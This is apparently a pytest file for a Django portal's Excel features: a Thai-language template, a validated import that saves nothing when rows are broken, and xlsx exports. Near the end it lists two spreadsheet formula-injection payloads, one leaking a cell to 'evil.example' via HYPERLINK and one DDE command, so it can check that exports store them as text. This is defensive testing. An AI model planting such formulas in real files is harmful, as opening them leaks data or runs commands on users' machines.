"""Excel: the template, an all-or-nothing validated import, and the exports."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from portal.exceptions import ApplicationError
from proposals.models import ProjectRequest
from proposals.services.excel import COLUMNS, plan_import_xlsx
from tests.proposals.conftest import make_request, plan_for

pytestmark = pytest.mark.django_db
HEADERS = [title for _name, title in COLUMNS]


def _sheet(rows) -> SimpleUploadedFile:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADERS)
    index = {name: i for i, (name, _t) in enumerate(COLUMNS)}
    for row in rows:
        values = [None] * len(COLUMNS)
        for name, value in row.items():
            values[index[name]] = value
        sheet.append(values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile("แผน.xlsx", buffer.getvalue())


GOOD = {
    "title": "ก่อสร้างฝายชะลอน้ำห้วยทราย",
    "category": "แหล่งน้ำและชลประทาน",
    "strategic_issue": "1",
    "ministry_strategy": "ทส. 1",
    "amount": 1500000,
    "provinces": "ขอนแก่น",
    "amphoe": "ภูเวียง",
    "tambon": "นาชุมแสง",
    "priority_rank": 2,
}


def test_the_template_has_thai_headers_and_the_offices_valid_values(client_for, people):
    plan = plan_for(people.planner_a, people.office_a)
    response = client_for(people.planner_a).get(reverse("proposals:plan-template", args=[plan.pk]))
    workbook = load_workbook(io.BytesIO(response.content))
    assert [c.value for c in workbook.worksheets[0][1]] == HEADERS
    values = [c.value for row in workbook["ค่าที่ใช้ได้"].iter_rows() for c in row if c.value]
    assert "1. อนุรักษ์ฟื้นฟูทรัพยากรธรรมชาติ" in values and "ขอนแก่น" in values


def test_a_valid_sheet_becomes_drafts_in_the_plan(people):
    plan = plan_for(people.planner_a, people.office_a)
    created = plan_import_xlsx(
        user=people.planner_a,
        plan_id=plan.pk,
        file=_sheet([GOOD, {**GOOD, "title": "ขุดลอกหนองบัว", "priority_rank": 1}]),
    )
    assert [r.title for r in created] == ["ขุดลอกหนองบัว", "ก่อสร้างฝายชะลอน้ำห้วยทราย"]
    weir = created[1]
    assert weir.strategic_issue == people.issue_a and weir.ministry_strategy == people.strategy_x
    assert str(weir.locations.get()) == "ต.นาชุมแสง อ.ภูเวียง จ.ขอนแก่น"


def test_a_sheet_with_broken_rows_saves_nothing_and_names_each_row_and_column(people):
    plan = plan_for(people.planner_a, people.office_a)
    rows = [
        GOOD,
        {**GOOD, "amount": -5, "category": "ยานอวกาศ"},
        {**GOOD, "title": "", "provinces": "อุดรธานี"},
        {**GOOD, "ministry_strategy": "ทส. 9", "amount": "หนึ่งล้าน"},
    ]
    with pytest.raises(ApplicationError) as refused:
        plan_import_xlsx(user=people.planner_a, plan_id=plan.pk, file=_sheet(rows))
    errors = {(e["row"], e["column"]) for e in refused.value.extra["errors"]}
    assert {(3, "M"), (3, "H"), (4, "B"), (4, "N"), (5, "J"), (5, "M")} <= errors
    assert ProjectRequest.objects.filter(plan=plan).count() == 0


def test_the_import_page_lists_the_errors_in_thai(client_for, people):
    plan = plan_for(people.planner_a, people.office_a)
    response = client_for(people.planner_a).post(
        reverse("proposals:plan-import", args=[plan.pk]), {"file": _sheet([{**GOOD, "amount": 0}])}
    )
    body = response.content.decode()
    assert response.status_code == 200
    assert "วงเงินต้องมากกว่า 0 บาท" in body and "ยังไม่ได้บันทึกข้อมูลใด ๆ" in body


def test_a_file_that_is_not_a_workbook_gets_a_clear_message(people):
    plan = plan_for(people.planner_a, people.office_a)
    with pytest.raises(ApplicationError, match="อ่านไฟล์ไม่ได้"):
        plan_import_xlsx(user=people.planner_a, plan_id=plan.pk, file=SimpleUploadedFile("x.xlsx", b"not excel"))


def test_a_plan_and_a_filtered_list_export_to_xlsx(client_for, people):
    water = make_request(people, title="ฝายน้ำล้น")
    make_request(people, title="ถนนลาดยาง", category="roads", strategy=people.strategy_y)
    client = client_for(people.planner_a)
    plan_book = load_workbook(io.BytesIO(client.get(reverse("proposals:plan-export", args=[water.plan_id])).content))
    titles = [row[2] for row in plan_book.active.iter_rows(min_row=5, values_only=True)]
    assert "ฝายน้ำล้น" in titles and "ถนนลาดยาง" in titles
    category = water.category_id
    listed = load_workbook(io.BytesIO(client.get(reverse("proposals:request-export"), {"category": category}).content))
    rows = list(listed.active.iter_rows(min_row=2, values_only=True))
    assert [r[3] for r in rows] == ["ฝายน้ำล้น"]


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"ดู")', "=cmd|' /C calc'!A0"]


def _titles_as_written(content: bytes, column: int, min_row: int) -> dict:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return {
        row[column].value: row[column].data_type
        for row in sheet.iter_rows(min_row=min_row)
        if row[column].value in FORMULAS
    }


def test_a_planners_exports_write_formula_like_titles_as_text(client_for, people):
    # issue 13 item 1: a title written as a live formula leaks the sheet when someone opens it
    drafts = [make_request(people, title=title) for title in FORMULAS]
    client = client_for(people.planner_a)
    listed = client.get(reverse("proposals:request-export")).content
    assert _titles_as_written(listed, 3, 2) == dict.fromkeys(FORMULAS, "s")
    plan = client.get(reverse("proposals:plan-export", args=[drafts[0].plan_id])).content
    assert _titles_as_written(plan, 2, 5) == dict.fromkeys(FORMULAS, "s")


@pytest.mark.parametrize("who", ["central", "reviewer_x"])
def test_the_central_team_and_reviewer_exports_write_formula_like_titles_as_text(client_for, people, who):
    from tests.reviews.conftest import under_review

    filed = [under_review(people, title=title) for title in FORMULAS]
    client = client_for(getattr(people, who))
    listed = client.get(reverse("proposals:request-export")).content
    assert _titles_as_written(listed, 3, 2) == dict.fromkeys(FORMULAS, "s")
    if who == "central":
        plan = client.get(reverse("proposals:plan-export", args=[filed[0].plan_id])).content
        assert _titles_as_written(plan, 2, 5) == dict.fromkeys(FORMULAS, "s")
